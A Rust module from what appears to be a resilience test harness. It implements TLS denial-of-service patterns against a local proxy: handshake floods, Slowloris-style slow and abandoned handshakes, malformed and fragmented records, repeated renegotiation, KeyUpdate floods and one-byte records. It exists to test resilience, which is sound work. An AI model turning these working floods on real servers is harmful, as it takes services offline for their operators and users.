//! Attacks on TLS: handshakes, records and renegotiation.

use std::io::Write;
use std::time::Duration;

use rustls::ClientConnection;
use rustls::pki_types::ServerName;
use weir_lab::bench::tls::TlsSettings;

use super::pattern;
use crate::arena::{Arena, Conn, Ending};
use crate::judge::{Outcome, Pattern};
use crate::support::process::{command, finish};

/// A session that accepts every certificate: an attacker needs none to be valid.
fn session() -> ClientConnection {
    let settings = TlsSettings { insecure: true, ..TlsSettings::default() };
    let name = ServerName::try_from("localhost").unwrap();
    ClientConnection::new(settings.config().unwrap(), name).unwrap()
}

/// Returns the bytes of a ClientHello, which can be sent repeatedly without computation.
fn client_hello() -> Vec<u8> {
    let mut bytes = Vec::new();
    session().write_tls(&mut bytes).unwrap();
    bytes
}

/// Opens a connection and completes its handshake.
fn established(arena: &Arena) -> Option<(ClientConnection, Conn)> {
    let mut session = session();
    let conn = arena.open(arena.proxy.tls, None)?;
    conn.stream.set_nonblocking(false).ok()?;
    conn.stream.set_read_timeout(Some(Duration::from_secs(1))).ok()?;
    conn.stream.set_write_timeout(Some(Duration::from_secs(1))).ok()?;
    let mut stream = &conn.stream;
    while session.is_handshaking() {
        session.complete_io(&mut stream).ok()?;
    }
    conn.stream.set_nonblocking(true).ok()?;
    Some((session, conn))
}

/// Handshakes that cost the server a signature and the client no computation.
pub(crate) fn tls_handshake_flood() -> Pattern {
    pattern("tls_handshake_flood", "TLS handshake flood", |arena| {
        let hello = client_hello();
        while arena.is_running() {
            let Some(mut conn) = arena.open(arena.proxy.tls, None) else { continue };
            conn.write_some(&hello);
            conn.until_over(Duration::from_millis(2));
            conn.finish(Ending::Reset);
        }
    })
    .threads(4)
}

/// Handshakes that stop after the first message.
pub(crate) fn tls_half_handshakes() -> Pattern {
    pattern("tls_half_handshakes", "abandoned TLS handshakes", |arena| {
        let hello = client_hello();
        arena.hold(200, b"", || {
            let mut conn = arena.open(arena.proxy.tls, None)?;
            conn.write_some(&hello).map(|_| conn)
        });
    })
}

/// ClientHello messages one byte at a time.
pub(crate) fn tls_slow_handshakes() -> Pattern {
    pattern("tls_slow_handshakes", "Slowloris in TLS", |arena| {
        let hello = client_hello();
        let (first, rest) = hello.split_at(6);
        arena.hold(200, rest, || {
            let mut conn = arena.open(arena.proxy.tls, None)?;
            conn.write_some(first).map(|_| conn)
        });
    })
}

/// Bytes that are not TLS.
pub(crate) fn tls_garbage() -> Pattern {
    pattern("tls_garbage", "malformed TLS records", |arena| {
        let plain = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec();
        // A handshake record of the greatest length, of zeros; a record that exceeds it; an alert.
        let record = [b"\x16\x03\x01\x40\x00".as_slice(), &[0; 16_384]].concat();
        let longer = [b"\x16\x03\x01\xff\xff".as_slice(), &[0xff].repeat(65_535)].concat();
        let alert = b"\x15\x03\x01\x00\x02\x01\x00".repeat(1000);
        while arena.is_running() {
            for bytes in [&plain, &record, &longer, &alert] {
                let Some(mut conn) = arena.open(arena.proxy.tls, None) else { continue };
                conn.write_some(bytes);
                conn.until_over(Duration::from_millis(5));
            }
        }
    })
}

/// ClientHello messages split into records of one byte.
pub(crate) fn tls_fragmented_hello() -> Pattern {
    pattern("tls_fragmented_hello", "handshake messages in one-byte records", |arena| {
        let hello = client_hello();
        let bytes: Vec<u8> =
            hello[5..].iter().flat_map(|&byte| [0x16, 0x03, 0x01, 0x00, 0x01, byte]).collect();
        while arena.is_running() {
            let Some(mut conn) = arena.open(arena.proxy.tls, None) else { continue };
            conn.write_some(&bytes);
            conn.until_over(Duration::from_millis(5));
        }
    })
}

/// Repeated requests for renegotiation by TLS 1.2 clients.
pub(crate) fn tls_renegotiation() -> Pattern {
    pattern("tls_renegotiation", "TLS renegotiation (CVE-2009-3555, CVE-2011-1473)", |arena| {
        while arena.is_running() {
            renegotiate(arena);
        }
    })
    .outcome(|arena| {
        let said = renegotiate(arena);
        let refused = said.contains("no renegotiation")
            || said.contains("errno")
            || said.contains("error:")
            || said.contains("unexpected message");
        let again = said.matches("verify return:1").count();
        let words = if refused { "refused" } else { "not refused" };
        Outcome::of(refused, format!("{words}, {again} certificates seen"))
    })
}

fn renegotiate(arena: &Arena) -> String {
    let address = arena.proxy.tls.to_string();
    let mut client = command("timeout");
    client.args(["1", "openssl", "s_client", "-tls1_2", "-connect", &address]);
    let done = finish(&mut client, b"R\nR\nR\nR\nR\nR\n");
    String::from_utf8_lossy(&[done.stdout, done.stderr].concat()).into_owned()
}

/// KeyUpdate messages of TLS 1.3, each of which requires a response that the client never reads.
pub(crate) fn tls_key_updates() -> Pattern {
    pattern("tls_key_updates", "TLS 1.3 KeyUpdate flood", |arena| {
        while arena.is_running() {
            let Some((mut session, mut conn)) = established(arena) else { continue };
            while arena.is_running() {
                for _ in 0..100 {
                    if session.refresh_traffic_keys().is_err() {
                        break;
                    }
                }
                let mut bytes = Vec::new();
                while session.wants_write() {
                    if session.write_tls(&mut bytes).is_err() {
                        break;
                    }
                }
                if conn.write_within(&bytes, Duration::from_millis(50)).is_none() {
                    break;
                }
            }
        }
    })
    .threads(2)
}

/// Requests in records of one byte.
pub(crate) fn tls_tiny_records() -> Pattern {
    pattern("tls_tiny_records", "application data in one-byte records", |arena| {
        let request = b"GET /flood HTTP/1.1\r\nHost: localhost\r\n\r\n";
        while arena.is_running() {
            let Some((mut session, mut conn)) = established(arena) else { continue };
            while arena.is_running() {
                let mut bytes = Vec::new();
                for _ in 0..10 {
                    for byte in request.chunks(1) {
                        let _ = session.writer().write_all(byte);
                        let _ = session.write_tls(&mut bytes);
                    }
                }
                conn.read_some();
                if conn.write_within(&bytes, Duration::from_millis(50)).is_none() {
                    break;
                }
            }
        }
    })
    .threads(2)
}
